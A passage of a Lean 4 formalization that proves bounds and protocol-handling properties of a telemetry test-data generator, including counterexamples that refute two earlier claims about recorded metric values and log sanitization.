    (ApplyAggroToTraceAttributesWith (recording RandomChoice) sampleEnv configAllRandom
      sampleAttrs [lit "http.method"] (lit "grpc")
      (listRng [3, 1, 4, 1, 5, 9], [])).state.2.length = 6 ∧
    (∀ l ∈ (ApplyAggroToTraceAttributesWith (recording RandomChoice) sampleEnv configAllRandom
      sampleAttrs [lit "http.method"] (lit "grpc")
      (listRng [3, 1, 4, 1, 5, 9], [])).state.2, l ≠ []) :=
  ⟨by decide,
   (chooser_is_never_called_on_empty_list sampleEnv configAllRandom sampleAttrs []
     [lit "http.method"] (lit "grpc") (listRng [3, 1, 4, 1, 5, 9])).1.1⟩

/-! ## Theorems: a target that is missing -/

theorem roundToFloat64_of_lt (x : Nat) (h : x < 2 ^ 53) : roundToFloat64 x = x := by
  have h0 : x / 2 ^ 0 < 2 ^ 53 := by simpa using h
  have hr : List.range 12 = 0 :: (List.range 11).map (· + 1) := by decide
  unfold roundToFloat64
  simp only [hr, List.find?_cons, h0, decide_True, Option.getD_some, if_true]

theorem roundToFloat64_two_pow_53 : roundToFloat64 (2 ^ 53) = 2 ^ 53 := by decide

theorem roundToFloat64_of_le (x : Nat) (h : x ≤ 2 ^ 53) : roundToFloat64 x = x := by
  rcases Nat.lt_or_eq_of_le h with h1 | h1
  · exact roundToFloat64_of_lt x h1
  · rw [h1]
    exact roundToFloat64_two_pow_53

theorem intToFloat64_of_abs_le (x : Int) (h1 : -2 ^ 53 ≤ x) (h2 : x ≤ 2 ^ 53) :
    intToFloat64 x = x := by
  have hn : x.natAbs ≤ 2 ^ 53 := by
    norm_num at h1 h2 ⊢
    omega
  unfold intToFloat64
  rw [roundToFloat64_of_le _ hn]
  split
  · simp only [Int.ofNat_eq_coe]
    omega
  · simp only [Int.ofNat_eq_coe]
    omega

theorem recordedValue_int64 (f : MetricGenerator) (counterMin counterMax : Int) (g : Rng)
    (hf : f.recordsFloat64 = false) (hu : f.isUpDown = false) :
    (recordedValue f counterMin counterMax g).1 =
      (generateFreshRandomValue counterMin counterMax g).1 := by
  cases f <;> first | rfl | exact absurd hf (by decide) | exact absurd hu (by decide)

theorem recordedValue_float64 (f : MetricGenerator) (counterMin counterMax : Int) (g : Rng)
    (hf : f.recordsFloat64 = true) (hu : f.isUpDown = false) :
    (recordedValue f counterMin counterMax g).1 =
      intToFloat64 (generateFreshRandomValue counterMin counterMax g).1 := by
  cases f <;> first | rfl | exact absurd hf (by decide) | exact absurd hu (by decide)

theorem recordedValue_upDown_int64 (f : MetricGenerator) (counterMin counterMax : Int) (g : Rng)
    (hf : f.recordsFloat64 = false) (hu : f.isUpDown = true) :
    (recordedValue f counterMin counterMax g).1 =
      (if lessThan03 (Float64 (generateFreshRandomValue counterMin counterMax g).2).1 then
        wrapInt (-(generateFreshRandomValue counterMin counterMax g).1)
      else (generateFreshRandomValue counterMin counterMax g).1) := by
  cases f <;> first
    | exact absurd hf (by decide)
    | exact absurd hu (by decide)
    | (simp only [recordedValue, generateFreshRandomValue]; split <;> rfl)

theorem recordedValue_upDown_float64 (f : MetricGenerator) (counterMin counterMax : Int)
    (g : Rng) (hf : f.recordsFloat64 = true) (hu : f.isUpDown = true) :
    (recordedValue f counterMin counterMax g).1 =
      (if lessThan03 (Float64 (generateFreshRandomValue counterMin counterMax g).2).1 then
        -intToFloat64 (generateFreshRandomValue counterMin counterMax g).1
      else intToFloat64 (generateFreshRandomValue counterMin counterMax g).1) := by
  cases f <;> first
    | exact absurd hf (by decide)
    | exact absurd hu (by decide)
    | (simp only [recordedValue, generateFreshRandomValue]; split <;> rfl)

theorem generateFreshRandomValue_bounds (counterMin counterMax : Int) (g : Rng)
    (hmin : -2 ^ 63 ≤ counterMin) (hmax : counterMax < 2 ^ 63)
    (hle : counterMin ≤ counterMax) (hno : counterMax - counterMin + 1 < 2 ^ 63) :
    counterMin ≤ (generateFreshRandomValue counterMin counterMax g).1 ∧
    (generateFreshRandomValue counterMin counterMax g).1 ≤ counterMax ∧
    (generateFreshRandomValue counterMin counterMax g).1 =
      counterMin + ((GetRandom g).1 : Int) % (counterMax - counterMin + 1) := by
  have h1 : wrapInt (counterMax - counterMin) = counterMax - counterMin :=
    wrapInt_of_range _ (by norm_num at hmin hmax hno ⊢; omega) (by norm_num at hmin hmax hno ⊢; omega)
  have h2 : wrapInt (counterMax - counterMin + 1) = counterMax - counterMin + 1 :=
    wrapInt_of_range _ (by norm_num at hmin hmax hno ⊢; omega) hno
  have hn : 0 < counterMax - counterMin + 1 := by omega
  have hb := Intn_bounds _ g hn
  have he := (Intn_pos _ g hn).1
  have h3 : wrapInt ((Intn (counterMax - counterMin + 1) g).1 + counterMin) =
      (Intn (counterMax - counterMin + 1) g).1 + counterMin :=
    wrapInt_of_range _ (by norm_num at hmin hmax hno ⊢; omega) (by norm_num at hmin hmax hno ⊢; omega)
  simp only [generateFreshRandomValue, h1, h2, h3]
  refine ⟨by omega, by omega, ?_⟩
  rw [he]
  omega

theorem recordedValue_upDown_bounds (f : MetricGenerator) (counterMin counterMax : Int) (g : Rng)
    (hmin : -2 ^ 63 < counterMin) (hmax : counterMax < 2 ^ 63)
    (hle : counterMin ≤ counterMax) (hno : counterMax - counterMin + 1 < 2 ^ 63)
    (hu : f.isUpDown = true)
    (hcase : f.recordsFloat64 = false ∨ (-2 ^ 53 ≤ counterMin ∧ counterMax ≤ 2 ^ 53)) :
    (counterMin ≤ (recordedValue f counterMin counterMax g).1 ∧
      (recordedValue f counterMin counterMax g).1 ≤ counterMax) ∨
    (-counterMax ≤ (recordedValue f counterMin counterMax g).1 ∧
      (recordedValue f counterMin counterMax g).1 ≤ -counterMin) := by
  have hb := generateFreshRandomValue_bounds counterMin counterMax g (le_of_lt hmin) hmax hle hno
  have hw : wrapInt (-(generateFreshRandomValue counterMin counterMax g).1) =
      -(generateFreshRandomValue counterMin counterMax g).1 :=
    wrapInt_of_range _ (by norm_num at hmin hmax ⊢; omega) (by norm_num at hmin hmax ⊢; omega)
  cases hfl : f.recordsFloat64 with
  | false =>
    rw [recordedValue_upDown_int64 f counterMin counterMax g hfl hu, hw]
    split
    · exact Or.inr ⟨by omega, by omega⟩
    · exact Or.inl ⟨hb.1, hb.2.1⟩
  | true =>
    rcases hcase with h | h
    · rw [hfl] at h
      exact absurd h (by decide)
    · rw [recordedValue_upDown_float64 f counterMin counterMax g hfl hu,
        intToFloat64_of_abs_le _ (le_trans h.1 hb.1) (le_trans hb.2.1 h.2)]
      split
      · exact Or.inr ⟨by omega, by omega⟩
      · exact Or.inl ⟨hb.1, hb.2.1⟩

/-- C25, counterexample: the value that a `Generate*` function records can lie
outside the configured bounds. With the bounds 1 and 100 (the defaults of the
flags), the draw 44 for `Intn` and the draw 0 for `Float64`, the expression
gives 45, the test `Float64() < 0.3` holds and `GenerateInt64UpDownCounter`
adds -45, which is less than the minimum. With both bounds at 2^53 + 1 the
expression gives 2^53 + 1 and `GenerateFloat64Counter` adds its `float64`,
which is 2^53. -/
theorem recorded_value_leaves_the_range :
    (generateFreshRandomValue 1 100 (listRng [44, 0])).1 = 45 ∧
    (recordedValue .GenerateInt64UpDownCounter 1 100 (listRng [44, 0])).1 = -45 ∧
    ¬ ((1 : Int) ≤ (recordedValue .GenerateInt64UpDownCounter 1 100 (listRng [44, 0])).1) ∧
    (generateFreshRandomValue 9007199254740993 9007199254740993 (listRng [44, 0])).1 =
      9007199254740993 ∧
    (recordedValue .GenerateFloat64Counter 9007199254740993 9007199254740993
      (listRng [44, 0])).1 = 9007199254740992 ∧
    ¬ ((9007199254740993 : Int) ≤
      (recordedValue .GenerateFloat64Counter 9007199254740993 9007199254740993
        (listRng [44, 0])).1) := by
  decide

/-- C25, amended: the value of the expression
`Intn(counterMax-counterMin+1)+counterMin` lies between the configured bounds,
in `generateFreshRandomValue` and in every `Generate*` metric function: for
`int` values `counterMin ≤ counterMax` whose difference plus one does not
overflow, and every state of the random source, it is `counterMin` plus the
draw modulo the size of the range. What a `Generate*` function records is this
value in the `Int64` functions, and its `float64` in the `Float64` functions,
which is the value itself when the bounds are at most 2^53 in absolute value;
so the recorded value lies between the bounds in the `Int64` functions, and in
the `Float64` functions for such bounds. The four up-down counter functions
record the negation instead when a further draw makes `Float64() < 0.3` hold,
so that what they record lies between the bounds or between `-counterMax` and
`-counterMin`. -/
theorem fresh_value_is_within_bounds (counterMin counterMax : Int) (g : Rng)
    (hmin : -2 ^ 63 ≤ counterMin) (hmax : counterMax < 2 ^ 63)
    (hle : counterMin ≤ counterMax) (hno : counterMax - counterMin + 1 < 2 ^ 63) :
    (counterMin ≤ (generateFreshRandomValue counterMin counterMax g).1 ∧
      (generateFreshRandomValue counterMin counterMax g).1 ≤ counterMax ∧
      (generateFreshRandomValue counterMin counterMax g).1 =
        counterMin + ((GetRandom g).1 : Int) % (counterMax - counterMin + 1)) ∧
    (∀ f : MetricGenerator, f.isUpDown = false →
      (f.recordsFloat64 = false ∨ (-2 ^ 53 ≤ counterMin ∧ counterMax ≤ 2 ^ 53)) →
      (recordedValue f counterMin counterMax g).1 =
        (generateFreshRandomValue counterMin counterMax g).1 ∧
      counterMin ≤ (recordedValue f counterMin counterMax g).1 ∧
      (recordedValue f counterMin counterMax g).1 ≤ counterMax) ∧
    (∀ f : MetricGenerator, f.isUpDown = false → f.recordsFloat64 = true →
      (recordedValue f counterMin counterMax g).1 =
        intToFloat64 (generateFreshRandomValue counterMin counterMax g).1) ∧
    (∀ f : MetricGenerator, f.isUpDown = true → f.recordsFloat64 = false →
      (recordedValue f counterMin counterMax g).1 =
        (if lessThan03 (Float64 (generateFreshRandomValue counterMin counterMax g).2).1 then
          wrapInt (-(generateFreshRandomValue counterMin counterMax g).1)
        else (generateFreshRandomValue counterMin counterMax g).1)) ∧
    (∀ f : MetricGenerator, f.isUpDown = true → f.recordsFloat64 = true →
      (recordedValue f counterMin counterMax g).1 =
        (if lessThan03 (Float64 (generateFreshRandomValue counterMin counterMax g).2).1 then
          -intToFloat64 (generateFreshRandomValue counterMin counterMax g).1
        else intToFloat64 (generateFreshRandomValue counterMin counterMax g).1)) ∧
    ((-2 ^ 53 ≤ counterMin ∧ counterMax ≤ 2 ^ 53) →
      intToFloat64 (generateFreshRandomValue counterMin counterMax g).1 =
        (generateFreshRandomValue counterMin counterMax g).1) ∧
    (∀ f : MetricGenerator, f.isUpDown = true →
      (f.recordsFloat64 = false ∨ (-2 ^ 53 ≤ counterMin ∧ counterMax ≤ 2 ^ 53)) →
      -2 ^ 63 < counterMin →
      (counterMin ≤ (recordedValue f counterMin counterMax g).1 ∧
        (recordedValue f counterMin counterMax g).1 ≤ counterMax) ∨
      (-counterMax ≤ (recordedValue f counterMin counterMax g).1 ∧
        (recordedValue f counterMin counterMax g).1 ≤ -counterMin)) := by
  have hb := generateFreshRandomValue_bounds counterMin counterMax g hmin hmax hle hno
  have hexact : (-2 ^ 53 ≤ counterMin ∧ counterMax ≤ 2 ^ 53) →
      intToFloat64 (generateFreshRandomValue counterMin counterMax g).1 =
        (generateFreshRandomValue counterMin counterMax g).1 := by
    rintro ⟨hlo, hhi⟩
    exact intToFloat64_of_abs_le _ (le_trans hlo hb.1) (le_trans hb.2.1 hhi)
  refine ⟨hb, ?_, ?_, ?_, ?_, hexact, fun f hu hcase hlo =>
    recordedValue_upDown_bounds f counterMin counterMax g hlo hmax hle hno hu hcase⟩
  · intro f hu hcase
    have hv : (recordedValue f counterMin counterMax g).1 =
        (generateFreshRandomValue counterMin counterMax g).1 := by
      cases hfl : f.recordsFloat64 with
      | false => exact recordedValue_int64 f counterMin counterMax g hfl hu
      | true =>
        rcases hcase with h | h
        · rw [hfl] at h
          exact absurd h (by decide)
        · rw [recordedValue_float64 f counterMin counterMax g hfl hu, hexact h]
    rw [hv]
    exact ⟨rfl, hb.1, hb.2.1⟩
  · intro f hu hfl
    exact recordedValue_float64 f counterMin counterMax g hfl hu
  · intro f hu hfl
    exact recordedValue_upDown_int64 f counterMin counterMax g hfl hu
  · intro f hu hfl
    exact recordedValue_upDown_float64 f counterMin counterMax g hfl hu

/-- C25 on the default bounds 1 and 100. -/
theorem fresh_value_is_within_bounds_witness :
    ((1 : Int) ≤ (generateFreshRandomValue 1 100 (constRng 12345)).1 ∧
      (generateFreshRandomValue 1 100 (constRng 12345)).1 ≤ 100 ∧
      (generateFreshRandomValue 1 100 (constRng 12345)).1 =
        1 + ((GetRandom (constRng 12345)).1 : Int) % (100 - 1 + 1)) ∧
    ((recordedValue .GenerateFloat64Gauge 1 100 (constRng 12345)).1 =
        (generateFreshRandomValue 1 100 (constRng 12345)).1 ∧
      (1 : Int) ≤ (recordedValue .GenerateFloat64Gauge 1 100 (constRng 12345)).1 ∧
      (recordedValue .GenerateFloat64Gauge 1 100 (constRng 12345)).1 ≤ 100) :=
  ⟨(fresh_value_is_within_bounds 1 100 (constRng 12345) (by decide) (by decide) (by decide)
      (by decide)).1,
   (fresh_value_is_within_bounds 1 100 (constRng 12345) (by decide) (by decide) (by decide)
      (by decide)).2.1 .GenerateFloat64Gauge rfl (Or.inr (by decide))⟩

/-! ## Theorems: the metric dispatch -/

theorem mem_replaceTraceValue {α : Type} (k v : GoString) (attrs : List (KeyValue α))
    (a : KeyValue α) (h : a ∈ replaceTraceValue k v attrs) :
    a ∈ attrs ∨ a = ⟨k, Value.string v⟩ := by
  induction attrs with
  | nil => simp [replaceTraceValue] at h
  | cons b rest ih =>
    unfold replaceTraceValue at h
    split at h
    · rcases List.mem_cons.mp h with h1 | h1
      · exact Or.inr h1
      · exact Or.inl (List.mem_cons_of_mem _ h1)
    · rcases List.mem_cons.mp h with h1 | h1
      · exact Or.inl (by rw [h1]; exact List.mem_cons_self _ _)
      · rcases ih h1 with h2 | h2
        · exact Or.inl (List.mem_cons_of_mem _ h2)
        · exact Or.inr h2

theorem foldl_logInject_message_cases {α : Type} (k v : Category → GoString)
    (cs : List Category) (r : List (KeyValue α) × GoString) :
    (cs.foldl (fun r c => logInject (k c) (v c) r) r).2 = r.2 ∨
      ∃ c ∈ cs, (cs.foldl (fun r c => logInject (k c) (v c) r) r).2 = v c := by
  induction cs generalizing r with
  | nil => exact Or.inl rfl
  | cons c rest ih =>
    simp only [List.foldl_cons]
    rcases ih (logInject (k c) (v c) r) with h | ⟨d, hd, h⟩
    · by_cases hk : k c = lit "message"
      · refine Or.inr ⟨c, List.mem_cons_self _ _, ?_⟩
        rw [h]
        simp [logInject, hk]
      · refine Or.inl ?_
        rw [h]
        simp [logInject, hk]
    · exact Or.inr ⟨d, List.mem_cons_of_mem _ hd, h⟩

theorem foldl_logInject_mem {α : Type} (k v : Category → GoString)
    (cs : List Category) (r : List (KeyValue α) × GoString) (a : KeyValue α)
    (h : a ∈ (cs.foldl (fun r c => logInject (k c) (v c) r) r).1) :
    a ∈ r.1 ∨ ∃ c ∈ cs, a = ⟨k c, Value.string (v c)⟩ := by
  induction cs generalizing r with
  | nil => exact Or.inl h
  | cons c rest ih =>
    simp only [List.foldl_cons] at h
    rcases ih (logInject (k c) (v c) r) h with h1 | ⟨d, hd, h1⟩
    · unfold logInject at h1
      split at h1
      · exact Or.inl h1
      · simp only [replaceLogValue_eq] at h1
        rcases mem_replaceTraceValue _ _ _ _ h1 with h2 | h2
        · exact Or.inl h2
        · exact Or.inr ⟨c, List.mem_cons_self _ _, h2⟩
    · exact Or.inr ⟨d, List.mem_cons_of_mem _ hd, h1⟩

/-- The values that a call of `ApplyAggroToLogAttributes` leaves in a record:
the message is the one it was given or a value of a category, and an attribute
is one it was given or a string attribute with a value of a category. -/
theorem log_values_from_corpora {T α : Type} (env : Env T) (config : AggroConfig)
    (attrs : List (KeyValue α)) (logMessage : GoString) (skipKeys : List GoString)
    (protocol : GoString) (g : Rng) :
    ((ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).message =
        logMessage ∨
      ∃ c, (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).message ∈
        categoryValues env protocol c) ∧
    (∀ a ∈ (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).attrs,
      a ∈ attrs ∨ ∃ c, ∃ v ∈ categoryValues env protocol c, a.Value = Value.string v) ∧
    (∀ a ∈ (ApplyAggroToLogAttributes env config attrs logMessage skipKeys protocol g).metadata,
      ∃ c : Category, a.Key = c.metaKey) := by
  obtain ⟨k, v, hk, hmeta, hres⟩ := log_master env config attrs logMessage skipKeys protocol g
  have h1 := congrArg Prod.fst hres
  have h2 := congrArg Prod.snd hres
  simp only at h1 h2
  refine ⟨?_, ?_, ?_⟩
  · rw [h2]
    rcases foldl_logInject_message_cases k v _ (attrs, logMessage) with h | ⟨c, hc, h⟩
    · exact Or.inl h
    · refine Or.inr ⟨c, ?_⟩
      rw [h]
      exact (hk c (List.mem_filter.mp hc).2).2.2
  · intro a ha
    rw [h1] at ha
    rcases foldl_logInject_mem k v _ (attrs, logMessage) a ha with h | ⟨c, hc, h⟩
    · exact Or.inl h
    · refine Or.inr ⟨c, v c, (hk c (List.mem_filter.mp hc).2).2.2, ?_⟩
      rw [h]
  · intro a ha
    rw [hmeta] at ha
    obtain ⟨c, _, hc⟩ := List.mem_map.mp ha
    exact ⟨c, by rw [← hc]; rfl⟩

theorem emitLogRecords_length {T α : Type} (env : Env T) (numAttributes : Int)
    (overrideAttrs : List GoString) (aggroConfig : AggroConfig)
    (word : Nat → Nat → GoString) (count i : Nat) (g : Rng) :
    (emitLogRecords env numAttributes overrideAttrs aggroConfig word count i g :
      List (LogRecord α) × Rng).1.length = count := by
  induction count generalizing i g with
  | zero => rfl
  | succ n ih =>
    simp only [emitLogRecords, List.length_cons]
    rw [ih]

theorem emitLogRecords_getElem? {T α : Type} (env : Env T) (numAttributes : Int)
    (overrideAttrs : List GoString) (aggroConfig : AggroConfig)
    (word : Nat → Nat → GoString) (count i : Nat) (g : Rng) (j : Nat) (rec : LogRecord α)
    (h : (emitLogRecords env numAttributes overrideAttrs aggroConfig word count i g).1[j]? =
      some rec) :
    ∃ gj : Rng, rec =
      ⟨(ApplyAggroToLogAttributes env aggroConfig
          (logAttributes numAttributes overrideAttrs (word (i + j)) : List (KeyValue α))
          (lit "example-log-" ++ FormatInt (Int.ofNat (i + j) + 1)) [lit "log.level"]
          (lit "grpc") gj).message,
       (ApplyAggroToLogAttributes env aggroConfig
          (logAttributes numAttributes overrideAttrs (word (i + j)) : List (KeyValue α))
          (lit "example-log-" ++ FormatInt (Int.ofNat (i + j) + 1)) [lit "log.level"]
          (lit "grpc") gj).attrs ++
       (ApplyAggroToLogAttributes env aggroConfig
          (logAttributes numAttributes overrideAttrs (word (i + j)) : List (KeyValue α))
          (lit "example-log-" ++ FormatInt (Int.ofNat (i + j) + 1)) [lit "log.level"]
          (lit "grpc") gj).metadata⟩ := by
  induction count generalizing i g j with
  | zero => simp [emitLogRecords] at h
  | succ n ih =>
    cases j with
    | zero =>
      simp only [emitLogRecords, List.getElem?_cons_zero, Option.some.injEq] at h
      exact ⟨g, by rw [← h]; rfl⟩
    | succ m =>
      simp only [emitLogRecords, List.getElem?_cons_succ] at h
      obtain ⟨gj, hgj⟩ := ih (i + 1) _ m h
      refine ⟨gj, ?_⟩
      have e : i + 1 + m = i + (m + 1) := by omega
      rw [e] at hgj
      exact hgj

/-! ## Theorems: the protocol of log generation -/

/-- C23, counterexample: with the exporter protocol "http" the engine is not
applied in the unsanitized mode. The string category is aimed at the message
and the draw 89 chooses the corpus entry "caf" followed by the byte 0xE9: the
body of the record that `GenerateLogs` builds is the sanitized "caf", where
the engine in the unsanitized mode gives the raw entry. -/
theorem log_generation_ignores_exporter_protocol :
    (GetAggroStrings sampleEnv).getD 89 [] = lit "caf" ++ [0xE9] ∧
    (GenerateLogs sampleEnv (configOnly .string (lit "message")) 1 0 [] (lit "http")
        (fun _ => sampleWord) (constRng 89)).1 =
      [(⟨lit "caf", [otellogString (lit "log.level") (lit "info"),
        otellogString (lit "aggro.string") (lit "message")]⟩ : LogRecord Unit)] ∧
    (ApplyAggroToLogAttributes sampleEnv (configOnly .string (lit "message"))
        (logAttributes 0 [] sampleWord : List (KeyValue Unit)) (lit "example-log-1")
        [lit "log.level"] (lit "http") (constRng 89)).message = lit "caf" ++ [0xE9] := by
  refine ⟨by decide, by decide, by decide⟩

/-- C23, amended: log generation passes "grpc" to the injection engine whatever
the exporter protocol is. For every `otlpProtocol`, `GenerateLogs` builds
`numLogs` records, and record `i` is made of the results of
`ApplyAggroToLogAttributes` called with the protocol "grpc" on the attributes
and the message "example-log-<i+1>" of the record. So the body of a record is
that message or a value that a category has under "grpc", and an attribute of
a record is one of the attributes built for it, a metadata entry, or a string
attribute with such a value; the string values under "grpc" are the string
corpus sanitized entry by entry with `sanitizeForGRPC`, and each of them is
valid for gRPC. -/
theorem log_generation_always_sanitizes {T α : Type} (env : Env T) (aggroConfig : AggroConfig)
    (numLogs numAttributes : Int) (overrideAttrs : List GoString) (otlpProtocol : GoString)
    (word : Nat → Nat → GoString) (g : Rng) :
    (GenerateLogs env aggroConfig numLogs numAttributes overrideAttrs otlpProtocol word g :
      List (LogRecord α) × Rng).1.length = numLogs.toNat ∧
    (∀ (i : Nat) (rec : LogRecord α),
      (GenerateLogs env aggroConfig numLogs numAttributes overrideAttrs otlpProtocol word
        g).1[i]? = some rec →
      (∃ gi : Rng, rec =
        ⟨(ApplyAggroToLogAttributes env aggroConfig
            (logAttributes numAttributes overrideAttrs (word i) : List (KeyValue α))
            (lit "example-log-" ++ FormatInt (Int.ofNat i + 1)) [lit "log.level"]
            (lit "grpc") gi).message,
         (ApplyAggroToLogAttributes env aggroConfig
            (logAttributes numAttributes overrideAttrs (word i) : List (KeyValue α))
            (lit "example-log-" ++ FormatInt (Int.ofNat i + 1)) [lit "log.level"]
            (lit "grpc") gi).attrs ++
         (ApplyAggroToLogAttributes env aggroConfig
            (logAttributes numAttributes overrideAttrs (word i) : List (KeyValue α))
            (lit "example-log-" ++ FormatInt (Int.ofNat i + 1)) [lit "log.level"]
            (lit "grpc") gi).metadata⟩) ∧
      (rec.Body = lit "example-log-" ++ FormatInt (Int.ofNat i + 1) ∨
        ∃ c, rec.Body ∈ categoryValues env (lit "grpc") c) ∧
      (∀ a ∈ rec.Attributes,
        a ∈ (logAttributes numAttributes overrideAttrs (word i) : List (KeyValue α)) ∨
        (∃ c : Category, a.Key = c.metaKey) ∨
        ∃ c, ∃ v ∈ categoryValues env (lit "grpc") c, a.Value = Value.string v)) ∧
    categoryValues env (lit "grpc") .string = (GetAggroStrings env).map sanitizeForGRPC ∧
    (∀ v ∈ categoryValues env (lit "grpc") .string, isValidUTF8ForGRPC v = true) := by
  have hstr : categoryValues env (lit "grpc") .string =
      (GetAggroStrings env).map sanitizeForGRPC := by
    simp [categoryValues]
  refine ⟨?_, ?_, hstr, ?_⟩
  · exact emitLogRecords_length env numAttributes overrideAttrs aggroConfig word _ 0 g
  · intro i rec hrec
    have hrec' : (emitLogRecords env numAttributes overrideAttrs aggroConfig word
        numLogs.toNat 0 g).1[i]? = some rec := hrec
    obtain ⟨gi, hgi⟩ := emitLogRecords_getElem? env numAttributes overrideAttrs aggroConfig
      word _ 0 g i rec hrec'
    rw [Nat.zero_add] at hgi
    obtain ⟨hm, ha, hmd⟩ := log_values_from_corpora env aggroConfig
      (logAttributes numAttributes overrideAttrs (word i) : List (KeyValue α))
      (lit "example-log-" ++ FormatInt (Int.ofNat i + 1)) [lit "log.level"] (lit "grpc") gi
    refine ⟨⟨gi, hgi⟩, ?_, ?_⟩
    · rw [hgi]
      exact hm
    · intro a hmem
      rw [hgi] at hmem
      rcases List.mem_append.mp hmem with h | h
      · rcases ha a h with h1 | h1
        · exact Or.inl h1
        · exact Or.inr (Or.inr h1)
      · exact Or.inr (Or.inl (hmd a h))
  · intro v hv
    rw [hstr] at hv
    obtain ⟨e, _, he⟩ := List.mem_map.mp hv
    rw [← he]
    exact isValidUTF8ForGRPC_sanitizeForGRPC e

/-- C23 on a record built with the exporter protocol "http". -/
theorem log_generation_always_sanitizes_witness :
    (GenerateLogs sampleEnv (configOnly .string (lit "message")) 1 0 [] (lit "http")
      (fun _ => sampleWord) (constRng 89) : List (LogRecord Unit) × Rng).1[0]? =
      some ⟨lit "caf", [otellogString (lit "log.level") (lit "info"),
        otellogString (lit "aggro.string") (lit "message")]⟩ ∧
    ((⟨lit "caf", [otellogString (lit "log.level") (lit "info"),
        otellogString (lit "aggro.string") (lit "message")]⟩ : LogRecord Unit).Body =
        lit "example-log-" ++ FormatInt (Int.ofNat 0 + 1) ∨
      ∃ c, (⟨lit "caf", [otellogString (lit "log.level") (lit "info"),
        otellogString (lit "aggro.string") (lit "message")]⟩ : LogRecord Unit).Body ∈
        categoryValues sampleEnv (lit "grpc") c) :=
  ⟨by decide,
   ((log_generation_always_sanitizes sampleEnv (configOnly .string (lit "message")) 1 0 []
      (lit "http") (fun _ => sampleWord) (constRng 89)).2.1 0
      ⟨lit "caf", [otellogString (lit "log.level") (lit "info"),
        otellogString (lit "aggro.string") (lit "message")]⟩ (by decide)).2.1⟩

end Aggro
